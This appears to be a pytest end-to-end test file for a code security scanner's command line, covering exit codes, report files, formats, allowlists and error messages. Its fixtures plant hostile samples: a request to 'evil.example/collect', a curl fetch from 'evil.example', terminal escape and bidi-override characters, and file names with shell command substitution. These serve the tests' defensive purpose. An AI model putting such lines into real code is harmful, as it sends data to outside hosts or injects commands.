"""``gk scan`` from end to end, in a process of its own: exit codes, files, formats, and one line for every mistake."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import jsonschema
import pytest
from scanning import ROOT, gk

CLEAN = "import json\nprint(json.dumps({}))\n"
REVIEW = 'import os, requests\nrequests.get(os.environ["SERVICE"])\n'
BAD = 'import requests\nrequests.get("https://evil.example/collect")\n'


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A folder with one harmless file."""
    folder = tmp_path / "tree"
    folder.mkdir()
    (folder / "app.py").write_text(CLEAN, encoding="utf-8")
    return folder


def report_of(tree: Path) -> dict:
    return json.loads((tree / "mcen_audit" / "report.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    ("text", "options", "code", "decision"),
    (
        pytest.param(CLEAN, (), 0, "PASS", id="nothing found"),
        pytest.param(REVIEW, (), 2, "CONDITIONAL_PASS", id="something to review"),
        pytest.param(REVIEW, ("--profile", "mcen_strict"), 1, "FAIL", id="the same in the strict profile"),
        pytest.param(REVIEW, ("--profile", "strict"), 1, "FAIL", id="the profile by its short name"),
        pytest.param(BAD, (), 1, "FAIL", id="something proven"),
        pytest.param("def broken(:\n", (), 2, "CONDITIONAL_PASS", id="a file that cannot be parsed"),
    ),
)
def test_exit_codes(tree: Path, text: str, options: tuple[str, ...], code: int, decision: str) -> None:
    (tree / "app.py").write_text(text, encoding="utf-8")
    done = gk("scan", ".", *options, cwd=tree)
    assert (done.returncode, done.stderr) == (code, "")
    assert report_of(tree)["summary"]["decision"] == decision
    assert f"{decision}: " in done.stdout
    assert f"(exit code {code})" in done.stdout


def test_files_written(tree: Path) -> None:
    assert gk("scan", cwd=tree).returncode == 0
    names = sorted(path.name for path in (tree / "mcen_audit").iterdir())
    assert names == [".gitignore", "manifest.json", "report.json", "report.md"]
    for name in ("report", "manifest"):
        schema = json.loads((ROOT / "docs" / f"{name}.schema.json").read_text(encoding="utf-8"))
        jsonschema.validate(json.loads((tree / "mcen_audit" / f"{name}.json").read_text(encoding="utf-8")), schema)


def test_our_own_output_is_not_scanned(tree: Path) -> None:
    gk("scan", cwd=tree)
    (tree / "mcen_audit" / "planted.py").write_text(BAD, encoding="utf-8")
    assert gk("scan", cwd=tree).returncode == 0


def test_output_dir_and_no_manifest(tree: Path, tmp_path: Path) -> None:
    out = tmp_path / "deep" / "out"
    assert gk("scan", tree, "--output-dir", out, "--no-manifest", cwd=tmp_path).returncode == 0
    assert sorted(path.name for path in out.iterdir()) == [".gitignore", "report.json", "report.md"]
    assert not (tree / "mcen_audit").exists()
    assert not (tmp_path / "mcen_audit").exists()


def test_a_single_file_and_several_paths(tree: Path) -> None:
    (tree / "bad.py").write_text(BAD, encoding="utf-8")
    (tree / "sub").mkdir()
    (tree / "sub" / "more.py").write_text(CLEAN, encoding="utf-8")
    assert gk("scan", "app.py", cwd=tree).returncode == 0
    assert gk("scan", "app.py", "sub", cwd=tree).returncode == 0
    assert {entry["path"] for entry in json.loads((tree / "mcen_audit" / "manifest.json").read_text())["files"]} == {
        "app.py",
        "sub/more.py",
    }
    assert gk("scan", "app.py", "bad.py", cwd=tree).returncode == 1


def test_format_to_standard_output_and_to_files(tree: Path, tmp_path: Path) -> None:
    page, plain = tmp_path / "page.md", tmp_path / "plain.txt"
    done = gk("scan", "-f", "json", "--format", f"markdown={page}", f"--format=text={plain}", cwd=tree)
    assert json.loads(done.stdout)["summary"]["decision"] == "PASS"
    assert page.read_text(encoding="utf-8") == (tree / "mcen_audit" / "report.md").read_text(encoding="utf-8")
    assert "PASS" in plain.read_text(encoding="utf-8")


def test_quiet_is_one_line_for_each_finding(tree: Path) -> None:
    (tree / "app.py").write_text(BAD, encoding="utf-8")
    lines = gk("scan", "--quiet", cwd=tree).stdout.splitlines()
    assert lines[0].startswith("app.py:2:1: BLOCKER NET001 ")
    assert lines[-1].startswith("FAIL: ")
    assert len(lines) == 2


def test_statistics(tree: Path) -> None:
    (tree / "app.py").write_text(BAD, encoding="utf-8")
    rows = [line.split()[:4] for line in gk("scan", "-q", "--statistics", cwd=tree).stdout.splitlines()]
    assert ["1", "0", "BLOCKER", "NET001"] in rows


def test_no_colour_and_no_progress_where_nobody_looks(tree: Path) -> None:
    (tree / "app.py").write_text(BAD, encoding="utf-8")
    done = gk("scan", cwd=tree)
    assert "\x1b" not in done.stdout
    assert done.stderr == ""


def test_hostile_text_does_not_reach_the_terminal(tree: Path) -> None:
    text = 'import requests\nrequests.get("https://evil.example/\x1b]0;owned\x07\u202e")\n'
    (tree / "app.py").write_text(text, encoding="utf-8")
    done = gk("scan", cwd=tree)
    for output in (done.stdout, (tree / "mcen_audit" / "report.md").read_text(encoding="utf-8")):
        assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    assert r"\x1b" in done.stdout


@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="file names there are text")
def test_odd_names_are_kept_exactly(tree: Path) -> None:
    for name in (b"new\nline.py", b"caf\xe9.py", b"-dash.py", "naïve ☃.py".encode(), b"q'\"`$(x).py"):
        (Path(os.fsdecode(os.path.join(os.fsencode(tree), name)))).write_text(BAD, encoding="utf-8")
    done = gk("scan", cwd=tree)
    assert done.returncode == 1
    files = {
        bytes.fromhex(finding["file_bytes"]) if "file_bytes" in finding else finding["file"].encode()
        for finding in report_of(tree)["findings"]
    }
    assert files == {b"new\nline.py", b"caf\xe9.py", b"-dash.py", "naïve ☃.py".encode(), b"q'\"`$(x).py"}
    assert r"new\nline.py:2" in done.stdout


def test_the_allowlist_suppresses_its_command_alone(tree: Path) -> None:
    text = 'import subprocess\nsubprocess.run(["git", "status"])\nsubprocess.run(["git", "gc"])\n'
    (tree / "app.py").write_text(text, encoding="utf-8")
    entries = [{"exact": "git status", "justification": "reads"}, {"exact": "git log", "justification": "reads"}]
    (tree / "allow.json").write_text(json.dumps({"entries": entries}), encoding="utf-8")
    done = gk("scan", "--allowlist", "allow.json", cwd=tree)
    assert done.returncode == 2
    report = report_of(tree)
    lines = {finding["line"]: finding["suppression"] for finding in report["findings"]}
    assert lines[2]["justification"] == "reads"
    assert lines[3] is None
    assert ["git log" in unused for unused in report["allowlist"]["unused"]] == [True]


def test_settings_of_the_scanned_folder(tree: Path) -> None:
    (tree / "old.py").write_text(BAD, encoding="utf-8")
    (tree / "gk.toml").write_text('exclude = ["old.py"]\n', encoding="utf-8")
    assert gk("scan", cwd=tree).returncode == 0
    assert any("old.py" in note for note in report_of(tree)["notes"])


def test_a_full_disk_is_one_line(tree: Path) -> None:
    (tree / "app.py").write_text(BAD, encoding="utf-8")
    done = gk("scan", "-f", "json=/dev/full", cwd=tree) if os.path.exists("/dev/full") else None
    assert done is None or (done.returncode == 3 and done.stderr.count("\n") == 1)


def write(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return path.name


MISTAKES = (
    pytest.param(lambda t: ("missing",), "missing: cannot be scanned", id="a path that is not there"),
    pytest.param(lambda t: ("",), "cannot be scanned", id="an empty path"),
    pytest.param(lambda t: (write(t / "a.txt", ""),), "not a kind of file", id="a file of another kind"),
    pytest.param(lambda t: ("--profile", "lax"), "unknown profile 'lax'", id="an unknown profile"),
    pytest.param(lambda t: ("--no-such-option",), "--no-such-option", id="an unknown option"),
    pytest.param(lambda t: ("--format", "xml"), "unknown format 'xml'", id="an unknown format"),
    pytest.param(lambda t: ("--format", "json="), "is empty", id="a format to nowhere"),
    pytest.param(lambda t: ("--max-file-size", "big"), "'big'", id="a size that is none"),
    pytest.param(lambda t: ("--max-file-size", "0"), "at least 1", id="a size of nothing"),
    pytest.param(lambda t: ("--include", "!x"), "negation", id="a pattern that cannot be meant"),
    pytest.param(lambda t: ("--exclude", "../x"), "leads out", id="a pattern that leads out"),
    pytest.param(lambda t: ("--allowlist", "none.json"), "none.json", id="an allowlist that is not there"),
    pytest.param(lambda t: ("--allowlist", write(t / "a.json", "{")), "not valid JSON", id="a broken allowlist"),
    pytest.param(
        lambda t: ("--allowlist", write(t / "a.json", '{"entries": [{"exact": "x", "justificatoin": "y"}]}')),
        "did you mean 'justification'?",
        id="an unknown key of the allowlist",
    ),
    pytest.param(
        lambda t: (
            "--allowlist",
            write(t / "a.json", '{"entries": [{"exact": "x", "justification": "y", "rule": "NET001"}]}'),
        ),
        "can only accept PEX003",
        id="an allowlist for another rule",
    ),
    pytest.param(lambda t: ("--config", write(t / "c.toml", "= 1")), "not valid TOML", id="broken settings"),
    pytest.param(lambda t: write(t / "gk.toml", 'exclud = ["x"]') and (), "did you mean 'exclude'?", id="unknown key"),
    pytest.param(
        lambda t: write(t / "pyproject.toml", '[tool.gk]\nprofil = "x"') and (),
        "did you mean 'profile'?",
        id="an unknown key in pyproject.toml",
    ),
    pytest.param(
        lambda t: ("--output-dir", write(t / "taken", "a file")), "cannot write", id="a file where the folder goes"
    ),
    pytest.param(
        lambda t: ("--output-dir", write(t / "taken", "a file") + "/below"), "cannot write", id="a file above it"
    ),
)


@pytest.mark.parametrize(("prepare", "says"), MISTAKES)
def test_a_mistake_is_one_line_and_exit_code_3(tree: Path, prepare, says: str) -> None:
    done = gk("scan", *prepare(tree), cwd=tree)
    assert done.returncode == 3
    assert done.stdout == ""
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("gk")
    assert says in done.stderr
    assert not (tree / "mcen_audit").exists()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads everything")
def test_a_folder_that_cannot_be_read(tree: Path) -> None:
    locked = tree / "locked"
    locked.mkdir(mode=0o000)
    try:
        named = gk("scan", "locked", cwd=tree)
        assert (named.returncode, named.stderr.count("\n")) == (3, 1)
        within = gk("scan", ".", cwd=tree)
        assert within.returncode == 2
        assert not report_of(tree)["summary"]["audit_complete"]
    finally:
        locked.chmod(0o700)


@pytest.mark.parametrize("words", ((), ("no-such-command",), ("scan", "--help"), ("--version",)))
def test_the_command_line_itself(tree: Path, words: tuple[str, ...]) -> None:
    done = gk(*words, cwd=tree)
    assert done.returncode == (0 if words[-1:] in (("--help",), ("--version",)) else 3)
    assert "Traceback" not in done.stderr


def test_explain_and_selftest(tree: Path) -> None:
    done = gk("explain", "net001", cwd=tree)
    assert done.returncode == 0 and "CWE-918" in done.stdout
    assert (
        "  # example.sh\n  curl https://evil.example/tool\n  -> line 1: curl connects to evil.example\n" in done.stdout
    )
    assert "did you mean 'NET001'?" in gk("explain", "NET01", cwd=tree).stderr
    assert gk("selftest", cwd=tree).stdout.endswith("all as they should be\n")
